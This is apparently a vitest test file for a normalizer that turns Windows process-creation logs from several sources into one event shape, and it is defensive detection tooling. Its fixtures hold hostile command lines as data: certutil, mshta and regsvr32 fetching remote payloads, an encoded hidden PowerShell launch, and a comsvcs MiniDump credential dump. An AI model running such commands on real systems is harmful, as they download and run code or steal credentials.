// One test per source shape, each on a fixture written from the ECS / Winlogbeat field references
// (test/fixtures/shapes), asserting the whole normalized event.

import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { ContainerFormat } from '../read/types.js';
import { normalize } from './normalize.js';
import type { NormalizedEvent } from './process-event.js';

const FIXTURES = new URL('../../test/fixtures/shapes/', import.meta.url);

function load(name: string): Record<string, unknown> {
  return JSON.parse(readFileSync(new URL(name, FIXTURES), 'utf8')) as Record<string, unknown>;
}

function eventOf(name: string, format: ContainerFormat = 'ndjson'): NormalizedEvent {
  const r = normalize({ value: load(name), origin: { file: name, line: 1 }, format });
  if (r.kind !== 'event') throw new Error(`${name}: expected an event, got ${JSON.stringify(r)}`);
  expect(r.warnings).toBeUndefined();
  return r.event;
}

const START = { kind: 'event', category: ['process'], type: ['start'] } as const;

describe('normalize: one test per source shape', () => {
  it('Elastic Defend (nested, Ext.code_signature array, Ext.token, pe.imphash)', () => {
    const e = eventOf('elastic-defend.json');
    expect(e.shape).toBe('elastic-defend');
    expect(e.timeMs).toBe(Date.UTC(2024, 2, 5, 14, 22, 31, 408));
    expect(e.origin).toEqual({ file: 'elastic-defend.json', line: 1 });
    expect(e.event).toEqual({
      '@timestamp': '2024-03-05T14:22:31.408Z',
      event: { ...START, action: 'start', module: 'endpoint', dataset: 'endpoint.events.process', id: 'NGr0AH5mQ3Cb1pW1+++/3nUC' },
      host: {
        name: 'fin-ws-0142',
        hostname: 'fin-ws-0142',
        id: 'c1d0f6a8-74e2-4bd9-9d1b-04a1a7f5e6c2',
        os: { type: 'windows', family: 'windows', name: 'Windows', platform: 'windows', version: '22H2' },
      },
      user: { name: 'jdoe', domain: 'CORP', id: 'S-1-5-21-1004336348-1177238915-682003330-1107' },
      process: {
        name: 'rundll32.exe',
        executable: 'C:\\Windows\\System32\\rundll32.exe',
        command_line: '"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,Start /s',
        args: ['C:\\Windows\\System32\\rundll32.exe', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,Start', '/s'],
        args_count: 3,
        pid: 6420,
        entity_id: 'MmM3ZjQ2YjItNTg2NC00YTYxLWI3NTUtNjQ0ZjU4YjA1MTQ1LTY0MjAtMTMzNTQ2',
        working_directory: 'C:\\Users\\jdoe\\Documents\\',
        pe: { original_file_name: 'RUNDLL32.EXE' },
        hash: {
          md5: 'ef3179d498793bf4234f708d3be28633',
          sha1: 'b7e2a1c5d9a85a4e3f29c1ab7a1d0e9f4c0c1f2a',
          sha256: '0d1f2c7bb46e3b5d4a4c1e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b',
          imphash: 'f27a7fc3a53e74f45223d7d4c1e4a8a9',
        },
        code_signature: { exists: true, trusted: true, subject_name: 'Microsoft Windows', status: 'trusted' },
        integrity_level: 'Medium',
        Ext: { token: { elevation: false, elevation_type: 'limited', integrity_level_name: 'medium' } },
        parent: {
          name: 'WINWORD.EXE',
          executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
          command_line: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\jdoe\\Downloads\\invoice.docm"',
          args: ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '/n', 'C:\\Users\\jdoe\\Downloads\\invoice.docm'],
          args_count: 3,
          pid: 6020,
          entity_id: 'MmM3ZjQ2YjItNTg2NC00YTYxLWI3NTUtNjQ0ZjU4YjA1MTQ1LTYwMjAtMTMzNTQ1',
          code_signature: { exists: true, trusted: true, subject_name: 'Microsoft Corporation', status: 'trusted' },
        },
      },
    });
  });

  it('Winlogbeat Sysmon 1, raw event data only (no ingest pipeline)', () => {
    const e = eventOf('winlogbeat-sysmon-raw.json');
    expect(e.shape).toBe('winlogbeat-sysmon');
    expect(e.event).toEqual({
      '@timestamp': '2019-07-18T03:34:01.261Z',
      event: { ...START, code: '1', provider: 'Microsoft-Windows-Sysmon', module: 'sysmon' },
      host: { name: 'WIN10-DEV.lab.local' },
      // winlog.user (SYSTEM, the Sysmon service account) is not the process user.
      user: { name: 'alice', domain: 'LAB' },
      process: {
        name: 'powershell.exe',
        executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        command_line: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
        pid: 6812,
        entity_id: '{747F3D96-E8F9-5D2F-0000-0010B91F1000}',
        working_directory: 'C:\\Users\\alice\\',
        pe: { original_file_name: 'PowerShell.EXE' },
        hash: {
          md5: 'F7464182EDEE5DAE02D5B3A526B16426',
          sha1: '8756C4B82B6C2CF7632F03318EAFF586187147DA',
          sha256: '40587258AD5F9427AD10E011F000023A007EC08EB1D39A07F79C690685529D82',
          imphash: 'C518E11E66316958BF83E5AB48998920',
        },
        integrity_level: 'Medium',
        Ext: { token: { integrity_level_name: 'medium' } },
        parent: {
          name: 'cmd.exe',
          executable: 'C:\\Windows\\System32\\cmd.exe',
          command_line: 'C:\\Windows\\system32\\cmd.exe /c launch.bat',
          pid: 5748,
          entity_id: '{747F3D96-E8F9-5D2F-0000-00109F1C1000}',
        },
      },
    });
  });

  it('Winlogbeat Sysmon 1 with the ingest pipeline ECS fields: ECS wins, event data fills the gaps', () => {
    const e = eventOf('winlogbeat-sysmon-ecs.json');
    expect(e.shape).toBe('winlogbeat-sysmon');
    expect(e.event).toEqual({
      '@timestamp': '2023-11-02T09:15:42.117Z',
      event: {
        ...START,
        action: 'Process Create (rule: ProcessCreate)',
        code: '1',
        provider: 'Microsoft-Windows-Sysmon',
        module: 'sysmon',
        dataset: 'windows.sysmon_operational',
      },
      host: { name: 'hr-ws-07', os: { type: 'windows', family: 'windows', platform: 'windows' } },
      user: { name: 'bob', domain: 'HR' },
      process: {
        name: 'certutil.exe',
        executable: 'C:\\Windows\\System32\\certutil.exe',
        command_line: 'C:\\Windows\\System32\\certutil.exe -urlcache -split -f http://203.0.113.9/a.txt a.exe',
        args: ['C:\\Windows\\System32\\certutil.exe', '-urlcache', '-split', '-f', 'http://203.0.113.9/a.txt', 'a.exe'],
        args_count: 6,
        pid: 7144,
        entity_id: '{9f3b2a10-6a7e-6543-8a02-000000002d00}',
        working_directory: 'C:\\Users\\bob\\Desktop\\',
        pe: { original_file_name: 'CertUtil.exe' },
        // md5 and sha256 from ECS process.hash; sha1 and imphash only exist in winlog Hashes.
        hash: {
          md5: '2A1D3E4F5A6B7C8D9E0F1A2B3C4D5E6F',
          sha1: 'AAAA1111BBBB2222CCCC3333DDDD4444EEEE5555',
          sha256: '0F1E2D3C4B5A69788796A5B4C3D2E1F00F1E2D3C4B5A69788796A5B4C3D2E1F0',
          imphash: '9D0E1F2A3B4C5D6E7F8091A2B3C4D5E6',
        },
        integrity_level: 'High',
        Ext: { token: { integrity_level_name: 'high' } },
        parent: {
          name: 'cmd.exe',
          executable: 'C:\\Windows\\System32\\cmd.exe',
          command_line: 'cmd.exe /c dl.bat',
          pid: 3312,
          entity_id: '{9f3b2a10-6a7c-6543-8902-000000002d00}',
        },
      },
    });
  });

  it('Winlogbeat Security 4688 on Windows 10: hex pids, NULL-SID target → subject is the user, %%1937, S-1-16-12288', () => {
    const e = eventOf('winlogbeat-4688-win10.json');
    expect(e.shape).toBe('winlogbeat-security-4688');
    expect(e.event).toEqual({
      '@timestamp': '2022-05-17T22:41:07.530Z',
      event: { ...START, action: 'created-process', code: '4688', provider: 'Microsoft-Windows-Security-Auditing' },
      host: { name: 'dc01.corp.example' },
      user: { name: 'admin.ops', domain: 'CORP', id: 'S-1-5-21-3623811015-3361044348-30300820-1013' },
      process: {
        name: 'net1.exe',
        executable: 'C:\\Windows\\System32\\net1.exe',
        command_line: 'C:\\Windows\\system32\\net1 user /domain',
        pid: 0x1a2c,
        integrity_level: 'High',
        Ext: { token: { elevation: true, elevation_type: 'full', integrity_level_name: 'high' } },
        parent: { name: 'net.exe', executable: 'C:\\Windows\\System32\\net.exe', pid: 0x1f60 },
      },
    });
  });

  it('Winlogbeat Security 4688 on old Windows: no ParentProcessName, no target account, empty command line', () => {
    const e = eventOf('winlogbeat-4688-legacy.json');
    expect(e.shape).toBe('winlogbeat-security-4688');
    expect(e.event).toEqual({
      '@timestamp': '2016-09-20T11:02:58.000Z',
      event: { ...START, code: '4688', provider: 'Microsoft-Windows-Security-Auditing' },
      host: { name: 'SRV2008.legacy.local' },
      // The machine account logged for SYSTEM (S-1-5-18) is named by its SID.
      user: { name: 'SYSTEM', domain: 'NT AUTHORITY', id: 'S-1-5-18' },
      process: {
        name: 'whoami.exe',
        executable: 'C:\\Windows\\System32\\whoami.exe',
        pid: 0xe4c,
        Ext: { token: { elevation_type: 'default' } },
        parent: { pid: 0x9b8 },
      },
    });
  });

  it('EVTX Sysmon 1 (Winlogbeat-shaped, every event_data value a string) maps with the Sysmon table', () => {
    const e = eventOf('evtx-sysmon.json', 'evtx');
    expect(e.shape).toBe('evtx-sysmon');
    expect(e.event).toEqual({
      '@timestamp': '2019-03-19T23:35:12.744Z',
      event: { ...START, code: '1', provider: 'Microsoft-Windows-Sysmon' },
      host: { name: 'IEWIN7' },
      user: { name: 'IEUser', domain: 'IEWIN7' },
      process: {
        name: 'mshta.exe',
        executable: 'C:\\Windows\\System32\\mshta.exe',
        command_line: '"C:\\Windows\\System32\\mshta.exe" "javascript:a=GetObject(\'script:http://192.0.2.7/x.sct\').Exec();close()"',
        pid: 3852,
        entity_id: '{7E5A1C03-7CF0-5C91-0000-0010E9E71B00}',
        working_directory: 'C:\\Users\\IEUser\\Desktop\\',
        hash: {
          md5: 'ABF5E7475F5A6A7252F46ED3C4622761',
          sha1: '050300251F92F569352C914F84C25FF1E0A166A3',
          sha256: '5E950BFBC10B0B8B45744E05389874C73B3E22C558A92C0DAD46DBC341346563',
          imphash: 'CECC59DDAF93AAB82A3EDA987491D8F7',
        },
        integrity_level: 'High',
        Ext: { token: { integrity_level_name: 'high' } },
        parent: {
          name: 'cmd.exe',
          executable: 'C:\\Windows\\System32\\cmd.exe',
          command_line: 'cmd.exe /c start mshta.exe',
          pid: 3084,
          entity_id: '{7E5A1C03-7CEF-5C91-0000-00105FD71B00}',
        },
      },
    });
  });

  it('EVTX Security 4688: a real target account (LOCAL SERVICE) is the process user; %%1936 at system integrity', () => {
    const e = eventOf('evtx-4688.json', 'evtx');
    expect(e.shape).toBe('evtx-security-4688');
    expect(e.event).toEqual({
      '@timestamp': '2019-05-12T11:24:31.108Z',
      event: { ...START, code: '4688', provider: 'Microsoft-Windows-Security-Auditing' },
      host: { name: 'WIN10-SRV.contoso.local' },
      user: { name: 'LOCAL SERVICE', domain: 'NT AUTHORITY', id: 'S-1-5-19' },
      process: {
        name: 'svchost.exe',
        executable: 'C:\\Windows\\System32\\svchost.exe',
        command_line: 'C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p',
        pid: 0x2f8,
        integrity_level: 'System',
        Ext: { token: { elevation: true, elevation_type: 'default', integrity_level_name: 'system' } },
        parent: { name: 'services.exe', executable: 'C:\\Windows\\System32\\services.exe', pid: 0x26c },
      },
    });
  });

  it('the same Winlogbeat document read from EVTX and from NDJSON differs only in its shape name', () => {
    const fromEvtx = eventOf('evtx-sysmon.json', 'evtx');
    const fromJson = eventOf('evtx-sysmon.json', 'ndjson');
    expect(fromJson.shape).toBe('winlogbeat-sysmon');
    expect(fromJson.event).toEqual(fromEvtx.event);
  });

  it('Elastic Endgame: endgame.* fills what ECS lacks, "YYYY-MM-DD HH:MM:SSZ" timestamps', () => {
    const e = eventOf('endgame.json');
    expect(e.shape).toBe('endgame');
    expect(e.event).toEqual({
      '@timestamp': '2020-02-11T16:03:27.000Z',
      event: { ...START, action: 'creation_event', module: 'endgame', dataset: 'esensor' },
      host: { name: 'ENG-WS3', hostname: 'ENG-WS3', os: { family: 'windows', name: 'Windows', platform: 'windows' } },
      user: { name: 'mbrown', domain: 'ENG', id: 'S-1-5-21-2222222222-3333333333-4444444444-1201' },
      process: {
        name: 'regsvr32.exe',
        executable: 'C:\\Windows\\SysWOW64\\regsvr32.exe',
        command_line: 'regsvr32 /s /n /u /i:http://198.51.100.4/file.sct scrobj.dll',
        pid: 5220,
        entity_id: '183520',
        pe: { original_file_name: 'REGSVR32.EXE' },
        hash: {
          md5: '3c1a4b0e1b6d4e0c9b1f5a8d6c7e2f10',
          sha1: 'c1a4b0e1b6d4e0c9b1f5a8d6c7e2f103c1a4b0e1',
          sha256: 'a8d6c7e2f103c1a4b0e1b6d4e0c9b1f5a8d6c7e2f103c1a4b0e1b6d4e0c9b1f5',
        },
        code_signature: { subject_name: 'Microsoft Windows', status: 'verified' },
        parent: {
          name: 'excel.exe',
          executable: 'C:\\Program Files (x86)\\Microsoft Office\\Office16\\EXCEL.EXE',
          pid: 3048,
          entity_id: '183400',
        },
      },
    });
  });

  it('flat dotted ECS (as in shared/data/train): Sysmon hash string, token_elevation_type, labels, null parent command line', () => {
    const e = eventOf('ecs-flat.json');
    expect(e.shape).toBe('ecs');
    expect(e.event).toEqual({
      '@timestamp': '2026-10-05T09:12:44.517Z',
      event: { ...START, code: '4688', provider: 'Microsoft-Windows-Security-Auditing' },
      host: { name: 'WS-0188.example.corp' },
      user: { name: 'mira.kovacs', domain: 'EXAMPLE', id: 'S-1-5-21-1004336348-1177238915-682003330-1188' },
      process: {
        name: 'rundll32.exe',
        executable: 'C:\\Windows\\System32\\rundll32.exe',
        command_line: '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\m.dmp full',
        pid: 4112,
        integrity_level: 'High',
        Ext: { token: { elevation: true, elevation_type: 'full', integrity_level_name: 'high' } },
        parent: {
          name: 'powershell.exe',
          executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 4388,
          reconstructed: true,
        },
      },
      label: { value: 'malicious', method: 'otrf_adversary_view_names_process', technique: ['T1003.001'] },
      labels: { case: 'fixture-credential-access', kind: 'attack' },
    });
  });

  it('nested ECS with scalar category/type, a string pid, DOMAIN\\user, a hash list in process.hash', () => {
    const e = eventOf('ecs-nested.json');
    expect(e.shape).toBe('ecs');
    expect(e.timeMs).toBe(Date.UTC(2021, 0, 4, 8));
    expect(e.event).toEqual({
      '@timestamp': '2021-01-04T08:00:00.000Z',
      event: { ...START, code: '1', provider: 'Microsoft-Windows-Sysmon' },
      host: { name: 'lab-01', os: { type: 'windows' } },
      user: { name: 'carol', domain: 'LAB' },
      process: {
        name: 'wmic.exe',
        executable: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
        command_line: 'wmic process call create calc.exe',
        pid: 4410,
        hash: { md5: '00112233445566778899AABBCCDDEEFF', sha1: '0A1B2C3D4E5F60718293A4B5C6D7E8F901234567' },
        parent: { name: 'explorer.exe', executable: 'C:\\Windows\\explorer.exe', pid: 2200 },
      },
      labels: { env: 'lab', run: '3' },
    });
  });
});
